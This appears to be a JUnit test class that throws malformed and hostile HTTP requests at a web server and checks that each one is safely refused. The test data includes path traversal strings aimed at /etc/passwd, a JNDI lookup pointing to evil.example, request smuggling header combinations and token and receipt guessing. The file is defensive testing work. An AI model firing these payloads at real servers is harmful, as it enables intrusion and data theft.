package org.klartext.api.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.klartext.api.TestServer;
import org.klartext.api.TestServer.Answer;
import org.klartext.api.identity.Role;

/** Whatever address, method or header comes, the server says what is wrong with it, and goes on. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadRequestTest {
  private static final String FORM = "application/x-www-form-urlencoded";

  private TestServer server;
  private Wire wire;

  @BeforeAll
  void start(@TempDir Path folder) throws Exception {
    server = TestServer.in(folder).start().as(Role.MODERATOR);
    wire = new Wire(server);
  }

  @AfterAll
  void stop() {
    server.close();
  }

  @AfterEach
  void theServerGoesOnAndNothingWasTaken() {
    assertEquals("up", server.get("/health/ready").text("status"));
    Answer queue = server.get("/api/v1/moderation/queue");
    assertEquals(0, queue.json().path("data").size(), queue.body());
  }

  @Test
  void aPathSaysWhichMethodsItKnows() {
    Map<String, String> known = new LinkedHashMap<>();
    known.put("/ask", "GET, HEAD, POST, OPTIONS");
    known.put("/pages/router/report", "GET, HEAD, OPTIONS");
    known.put("/api/v1/questions", "GET, HEAD, POST, OPTIONS");
    known.put("/api/v1/pages/router/comments", "POST, OPTIONS");
    known.put("/api/v1/preview", "POST, OPTIONS");
    known.put("/api/v1/search", "GET, HEAD, OPTIONS");
    known.put("/api/v1/suggest", "GET, HEAD, OPTIONS");
    known.put("/api/v1/similar", "POST, OPTIONS");
    known.put("/search", "GET, HEAD, OPTIONS");
    known.put("/receipt/x/y", "GET, HEAD, OPTIONS");
    known.put("/receipt/x/y/erase", "POST, OPTIONS");
    known.put("/api/v1/moderation/queue", "GET, HEAD, OPTIONS");
    known.put("/api/v1/moderation/decisions", "POST, OPTIONS");
    known.put("/api/v1/contributions/x", "GET, HEAD, DELETE, OPTIONS");
    known.put("/api/v1/contributions/x/decision", "PUT, DELETE, OPTIONS");
    known.put("/desk", "GET, HEAD, OPTIONS");
    known.put("/desk/login", "GET, HEAD, POST, OPTIONS");
    known.put("/desk/logout", "POST, OPTIONS");
    known.put("/health/live", "GET, HEAD, OPTIONS");
    known.put("/metrics", "GET, HEAD, OPTIONS");
    known.put("/artikel/router/", "GET, HEAD, OPTIONS");
    known.forEach((path, methods) -> {
      for (String method : List.of("GET", "POST", "PUT", "DELETE", "PATCH", "TRACE")) {
        if (!methods.contains(method)) {
          Wire.Reply reply =
              wire.send(method + " " + path + " HTTP/1.1\nAccept: application/json", "");
          assertEquals(405, reply.problem(method + " " + path).status(), method + " " + path);
          assertEquals(methods, reply.header("Allow"), method + " " + path);
        }
      }
      Wire.Reply options = wire.send("OPTIONS " + path + " HTTP/1.1", "");
      assertEquals(204, options.harmless("OPTIONS " + path).status(), path);
      assertEquals(methods, options.header("Allow"), path);
    });
  }

  @ParameterizedTest
  @ValueSource(strings = {"BREW", "get", "CONNECT", "PROPFIND", "X", "G\u00cbT", "GET\0", "{}"})
  void anUnknownMethodIsRefused(String method) {
    wire.send(method + " /api/v1/questions HTTP/1.1", "").problem(method);
    wire.send(method + " / HTTP/1.1", "").problem(method);
    assertFalse(server.get("/metrics").body().contains("method=\"" + method));
  }

  @Test
  void aHeaderDoesNotMakeAnotherMethodOfARequest() {
    String head = "GET /api/v1/contributions/x HTTP/1.1\nX-HTTP-Method-Override: DELETE";
    assertEquals(400, wire.send(head, "").problem("overridden").status());
  }

  @Test
  void headIsAnsweredAsGetIsButWithoutABody() {
    for (String path :
        List.of("/", "/artikel/router/", "/ask", "/health/live", "/nichts", "/api/v1/nichts")) {
      Wire.Reply get = wire.send("GET " + path + " HTTP/1.1", "");
      Wire.Reply head = wire.send("HEAD " + path + " HTTP/1.1", "");
      assertEquals(get.status(), head.status(), path);
      assertEquals(get.header("Content-Type"), head.header("Content-Type"), path);
      assertEquals("", head.body(), path);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/..",
        "/../",
        "/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/..%2f..%2fetc%2fpasswd",
        "/..%5c..%5cetc",
        "/..\\..\\etc",
        "/%252e%252e/",
        "/artikel/../../content/site.yaml",
        "/artikel/%2e%2e/%2e%2e/var/klartext.db",
        "/artikel%2fnichts",
        "/artikel//router/",
        "//etc/passwd",
        "/%00",
        "/artikel/%00",
        "/artikel/\0",
        "/artikel/router\u00ff",
        "/%",
        "/%zz",
        "/%f",
        "/%ff",
        "/%c0%ae%c0%ae/",
        "/%ed%a0%80",
        "/.klartext/",
        "/;x=y",
        "/artikel;x/router",
        "/artikel/router/index.html/",
        "/a:b",
        "/*",
        "?",
        "*",
        "artikel/router",
        "http://evil.example/artikel",
        "/\u00ef\u00bb\u00bf"
      })
  void aStrangePathLeadsNowhere(String path) {
    Wire.Reply reply = wire.send("GET " + path + " HTTP/1.1", "");
    assertTrue(reply.status() >= 400 && reply.status() < 500, () -> path + ": " + reply);
    reply.harmless(path);
    String api = "/api/v1/pages/" + path + "/comments";
    wire.send("POST " + api + " HTTP/1.1\nContent-Type: application/json", "{\"body\": \"x\"}")
        .problem(api);
  }

  @Test
  void aPathWithoutEndIsRefused() {
    for (String path : List.of("/" + "x".repeat(20_000), "/ask?topic=" + "x".repeat(20_000))) {
      assertEquals(414, wire.send("GET " + path + " HTTP/1.1", "").problem("long").status());
    }
    String longName = "/" + "x".repeat(5_000);
    assertEquals(404, wire.send("GET " + longName + " HTTP/1.1", "").harmless("long").status());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/ask?topic=%00",
        "/pages/router/reply?to=%00",
        "/pages/router/reply?kind=spam",
        "/pages/router/report?reply=x",
        "/pages/nichts/reply",
        "/receipt/nichts/nichts?done=%00"
      })
  void aPageOfTheServerIsNotShownForAStrangeQuery(String path) {
    wire.send("GET " + path + " HTTP/1.1\nAccept: text/html", "").page(path);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "after=x",
        "after=%00",
        "after=MQ",
        "after=OTk5OTk5OTk5OTk5OTk5OTk5OTk5OSB4",
        "limit=0",
        "limit=-1",
        "limit=101",
        "limit=99999999999",
        "limit=1e2",
        "limit=%zz",
        "kind=spam",
        "state=secret",
        "reported=maybe",
        "order=name",
        "reported=true&reported=false",
        "limit=%",
        "limit=%4"
      })
  void aTamperedQuestionToTheQueueIsRefused(String query) {
    String head =
        "GET /api/v1/moderation/queue?%s HTTP/1.1\nAuthorization: Bearer %s"
            .formatted(query, server.token());
    assertEquals(400, wire.send(head, "").problem(query).status());
  }

  @ParameterizedTest
  @ValueSource(strings = {"q=%", "q=%zz", "q=%4", "q=x&lang=%", "q=%00", "q=x&page[after]=MQ"})
  void aTamperedSearchIsRefused(String query) {
    for (String path : List.of("/api/v1/search?", "/api/v1/suggest?")) {
      assertEquals(400, wire.send("GET " + path + query + " HTTP/1.1", "").problem(query).status());
    }
    Wire.Reply page = wire.send("GET /search?" + query + " HTTP/1.1\nAccept: text/html", "");
    assertTrue(page.harmless(query).status() == 200 || page.status() == 400, page::toString);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "*",
        "1.1",
        "\"1\"",
        "W/\"1.1\"",
        "\"1.1\", \"1.2\"",
        "\"\"",
        "\"-1.1\"",
        "\u00ff"
      })
  void aTamperedIfMatchIsRefused(String tag) {
    String head =
        "PUT /api/v1/contributions/x/decision HTTP/1.1\nContent-Type: application/json\n"
            + "If-Match: %s\nAuthorization: Bearer %s".formatted(tag, server.token());
    assertEquals(400, wire.send(head, "{\"decision\": \"approved\"}").problem(tag).status());
  }

  @ParameterizedTest
  @ValueSource(strings = {"short", "with a blank in it", "\u00fcberlange-schluessel", ""})
  void aTamperedIdempotencyKeyIsRefused(String key) {
    String head =
        "POST /api/v1/questions HTTP/1.1\nContent-Type: application/json\nIdempotency-Key: " + key;
    String body = "{\"title\": \"x\", \"body\": \"y\"}";
    assertEquals(400, wire.send(head, body).problem(key).status());
    wire.send(head + "x".repeat(129), body).problem("long");
  }

  static Stream<Arguments> heads() {
    String get = "GET / HTTP/1.1\n";
    String post = "POST /api/v1/questions HTTP/1.1\nContent-Type: application/json\n";
    return Stream.of(
        arguments("a huge header", get + "X: " + "x".repeat(40_000)),
        arguments("many headers", get + "X: x\n".repeat(20_000)),
        arguments("a header without a colon", get + "X"),
        arguments("a header without a name", get + ": x"),
        arguments("a blank before the colon", get + "Host : x"),
        arguments("NUL in a header", get + "X: a\0b"),
        arguments("no host", get + "Host:"),
        arguments("a strange host", get + "Host: a b"),
        arguments("a host with a path", get + "Host: x/y"),
        arguments("a host with a wrong port", get + "Host: x:y"),
        arguments("two hosts", get + "Host: a\nHost: b"),
        arguments("a negative length", post + "Content-Length: -1"),
        arguments("no length", post + "Content-Length: x"),
        arguments("two lengths", post + "Content-Length: 1\nContent-Length: 2"),
        arguments("a length without end", post + "Content-Length: " + "9".repeat(40)),
        arguments("length and chunks", post + "Content-Length: 3\nTransfer-Encoding: chunked"),
        arguments("an unknown coding", post + "Transfer-Encoding: xchunked"),
        arguments("two codings", post + "Transfer-Encoding: chunked, chunked"),
        arguments("an unknown expectation", post + "Expect: 200-ok\nContent-Length: 0"),
        arguments("another protocol", "GET / HTTQ/1.1"),
        arguments("a protocol to come", "GET / HTTP/9.9"),
        arguments("no protocol number", "GET / HTTP/x"),
        arguments("blanks", "   "),
        arguments("three words too many", "GET / x y z HTTP/1.1"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("heads")
  void whatIsNoRequestIsRefused(String name, String head) {
    wire.send(head, "").problem(name);
  }

  @Test
  void whatIsNotEvenTextIsRefused() {
    assertTrue(
        wire.bytes("\u0016\u0003\u0001\u0002\0\u0001\0\u0001\u00fc\u0003\u0003\r\n\r\n").status()
            < 500);
    assertTrue(wire.bytes("GET /\r\n\r\n").status() < 500);
    assertTrue(wire.bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").status() < 500);
    assertTrue(wire.bytes("\r\n\r\n\r\n\0\r\n\r\n").status() < 500);
    String chunks =
        """
        POST /api/v1/questions HTTP/1.1
        Host: x
        Content-Type: application/json
        Transfer-Encoding: chunked
        Connection: close

        """
            .replace("\n", "\r\n");
    wire.bytes(chunks + "zz\r\n{}\r\n0\r\n\r\n").problem("a chunk of no size");
    wire.bytes(chunks + "ffffffffffffffff\r\n{}\r\n0\r\n\r\n").problem("a chunk without end");
    wire.bytes(chunks + "-1\r\n{}\r\n0\r\n\r\n").problem("a negative chunk");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Accept-Language: \u00ff\u00fe",
        "Accept-Language: de;q=x, *;q=9, ,,;;==",
        "Accept-Language: x-y-z-klingon-toolongsubtag, de-",
        "Accept: %%%",
        "Cookie: klartext-session=\u00ff; ;;=; a=\"",
        "Cookie: klartext-session=" + "%00",
        "If-None-Match: *, W/\"\"\"\"",
        "Range: bytes=9-1",
        "X-Forwarded-For: ;;; drop table, ::::, 999.1.1.1",
        "X-Forwarded-Proto: \u00ff",
        "Forwarded: for=\"_x",
        "Origin: null",
        "Origin: ht!tp://[",
        "Referer: \u00ff",
        "User-Agent: ${jndi:ldap://evil.example/x}",
        "Content-Encoding: gzip",
        "Upgrade: websocket\nConnection: Upgrade"
      })
  void aStrangeHeaderDisturbsNobody(String header) {
    assertEquals(200, wire.send("GET / HTTP/1.1\n" + header, "").harmless(header).status());
    assertEquals(200, wire.send("GET /ask HTTP/1.1\n" + header, "").harmless(header).status());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Bearer",
        "Bearer ",
        "Bearer x",
        "Bearer \u00ff",
        "Basic YTpi",
        "\0x",
        "Bearer a.b.c"
      })
  void aStrangeTokenIsNobodys(String value) {
    Wire.Reply reply =
        wire.send("GET /api/v1/moderation/queue HTTP/1.1\nAuthorization: " + value, "");
    assertTrue(List.of(400, 401).contains(reply.problem(value).status()), reply::toString);
  }

  @Test
  void whoGuessesReceiptsLearnsNothing() throws Exception {
    Answer sent = server.post("/api/v1/questions", Map.of("title", "Geheim?", "body", "Ja."));
    String receipt = sent.text("receipt");
    String id = TestServer.idOf(receipt);
    String secret = receipt.substring(receipt.lastIndexOf('/') + 1);
    String unknown = wire.send("GET /receipt/nichts/x HTTP/1.1", "").page("unknown").body();
    for (String guess :
        List.of(
            "x",
            secret + "x",
            secret.substring(1),
            secret.toUpperCase(Locale.ROOT) + "0",
            "%00",
            "%ff")) {
      Wire.Reply reply = wire.send("GET /receipt/" + id + "/" + guess + " HTTP/1.1", "");
      assertTrue(List.of(400, 404).contains(reply.harmless(guess).status()), guess);
      assertFalse(reply.body().contains("Geheim"), guess);
      if (reply.status() == 404) {
        assertEquals(unknown, reply.body(), guess);
      }
      Wire.Reply erase =
          wire.send(
              "POST /receipt/" + id + "/" + guess + "/erase HTTP/1.1\nContent-Type: " + FORM,
              "confirm=yes");
      assertTrue(List.of(400, 404).contains(erase.status()), guess);
    }
    assertEquals("held", server.queued(id).path("state").asString());
    assertEquals(200, server.decide(id, Map.of("decision", "rejected", "reason", "spam")).status());
  }

  @Test
  void whatIsMissingIsToldToPeopleAndPrograms() {
    Wire.Reply page = wire.send("GET /gibt/es/nicht/ HTTP/1.1\nAccept: text/html", "");
    assertEquals(404, page.page("a page").status());
    assertTrue(page.body().contains("<main"), page.body());
    assertEquals(404, wire.send("GET /api/v1/nichts HTTP/1.1", "").problem("api").status());
    assertEquals(
        404, wire.send("GET /api/nichts HTTP/1.1\nAccept: text/html", "").problem("api").status());
    assertEquals(404, wire.send("POST /nichts HTTP/1.1", "").harmless("post").status());
    String post = "POST /api/v1/pages/%s/comments HTTP/1.1\nContent-Type: application/json";
    String body = "{\"body\": \"x\"}";
    assertEquals(404, wire.send(post.formatted("nichts"), body).problem("no page").status());
    assertEquals(403, wire.send(post.formatted("still"), body).problem("closed").status());
    assertEquals(403, wire.send(post.formatted("stumm"), body).problem("off").status());
  }
}
